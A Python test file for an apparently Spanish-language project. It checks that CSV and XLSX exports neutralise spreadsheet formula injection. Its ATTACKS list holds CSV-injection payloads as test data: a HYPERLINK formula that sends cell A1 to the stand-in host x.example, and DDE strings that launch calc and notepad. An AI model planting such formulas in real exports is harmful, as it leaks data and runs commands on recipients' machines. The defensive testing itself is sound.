"""Formula neutralisation for CSV and XLSX exports (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from mejora_common.spreadsheets import (
    FORMULA_PREFIXES,
    neutralise_formula,
    restore_formula,
    safe_cell,
    safe_record,
    safe_row,
)

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
HARMLESS = ["", "Escuela Los Aromos", "Nota: =1 al final", " =1", "5", "12,5", "'ya citado", "María-José"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralise_formula(text) == "'" + text
    assert restore_formula(neutralise_formula(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise_formula(text) == text
    assert restore_formula(text) == text


def test_every_prefix_is_covered() -> None:
    for prefix in FORMULA_PREFIXES:
        assert neutralise_formula(prefix + "x").startswith("'")


@pytest.mark.parametrize("text", ["'=1+1", "''=1+1", "'-5", "=1", "'", "''", "'a"])
def test_the_round_trip_is_exact(text: str) -> None:
    # A text that already had apostrophes before a formula character survives export and import unchanged.
    assert restore_formula(neutralise_formula(text)) == text
    assert not neutralise_formula(text).startswith(FORMULA_PREFIXES)


def test_only_strings_change() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(None) is None
    assert safe_cell(True) is True
    assert safe_row(["=1", -1, None, "ok"]) == ["'=1", -1, None, "ok"]
    assert safe_record({"note": "@x", "score": -4}) == {"note": "'@x", "score": -4}


def test_a_csv_export_has_no_cell_starting_with_a_formula() -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(ATTACKS))
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert all(cell.startswith("'") for cell in cells)
    assert [restore_formula(cell) for cell in cells] == ATTACKS


def test_an_xlsx_export_stores_text_not_formulas() -> None:
    workbook = Workbook()
    workbook.active.append(safe_row(ATTACKS))
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    for cell in sheet[1]:
        assert cell.data_type == "s", cell.value  # "f" would be a formula
        assert cell.value.startswith("'")
    # Without neutralising, openpyxl would have written a formula: the test can tell the difference.
    unsafe = Workbook()
    unsafe.active.append(["=1+1"])
    assert unsafe.active["A1"].data_type == "f"
